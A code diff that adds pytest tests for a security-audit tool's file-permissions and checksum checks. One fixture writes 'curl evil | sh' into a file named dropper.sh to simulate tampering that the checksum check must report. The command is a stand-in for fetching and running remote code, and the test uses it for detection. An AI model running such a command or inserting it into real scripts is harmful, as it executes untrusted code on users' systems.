@@ -140,3 +140,47 @@ def test_checksums_record_a_baseline_then_report_changed_files(sandbox):
     second = sandbox.run("security.checksums", paths=[app])
     assert statuses(second) == ["warning"]
     assert second.findings[0].details["changed"] == [str(sandbox.root / "app/app.py")]
+
+
+def test_permissions_with_an_expected_mode_names_each_file_that_differs(sandbox):
+    app = sandbox.root / "app"
+    (app / "config.yaml").write_text("db: x\n")
+    (app / "config.yaml").chmod(0o644)
+    (app / "secrets.yaml").write_text("token: x\n")
+    (app / "secrets.yaml").chmod(0o640)
+    result = sandbox.run("security.permissions", path=str(app), mode="0640", files=["*.yaml"])
+    mode = result.findings[-1]
+    assert mode.status == "warning" and mode.details["expected"] == "0640"
+    assert mode.details["files"] == [{"path": str(app / "config.yaml"), "mode": "0644"}]
+    assert "1 *.yaml files under" in mode.summary and "config.yaml (0644)" in mode.summary
+
+
+def test_permissions_mode_can_be_critical_and_fail_the_step(sandbox):
+    app = sandbox.root / "app"
+    result = sandbox.run("security.permissions", path=str(app), mode="644",
+                         mode_status="critical", ignore=["static/*"])
+    mode = result.findings[-1]
+    # healthcheck.sh and bin/demoapp are 0755: not what the audit expects
+    assert not result.ok and mode.status == "critical" and mode.details["count"] == 2
+    assert sorted(mode.details["paths"]) == [str(app / "bin/demoapp"), str(app / "healthcheck.sh")]
+
+
+def test_permissions_refuses_a_mode_that_is_not_octal(sandbox):
+    from pydantic import ValidationError
+
+    with pytest.raises(ValidationError, match="octal permission such as"):
+        sandbox.ctx("security.permissions", path=str(sandbox.root / "app"), mode="rw-r-----")
+
+
+def test_checksums_name_the_changed_new_and_removed_files_in_the_summary(sandbox):
+    app = sandbox.root / "app"
+    sandbox.run("security.checksums", paths=[str(app)])
+    (app / "app.py").write_text("print('tampered')\n")
+    (app / "VERSION").unlink()
+    (app / "dropper.sh").write_text("curl evil | sh\n")
+    result = sandbox.run("security.checksums", paths=[str(app)])
+    summary = result.findings[0].summary
+    assert f"changed: {app / 'app.py'}" in summary and f"new: {app / 'dropper.sh'}" in summary
+    assert f"removed: {app / 'VERSION'}" in summary
+    hashes = result.findings[0].details["hashes"][str(app / "app.py")]
+    assert hashes["before"] != hashes["now"] and len(hashes["now"]) == 64
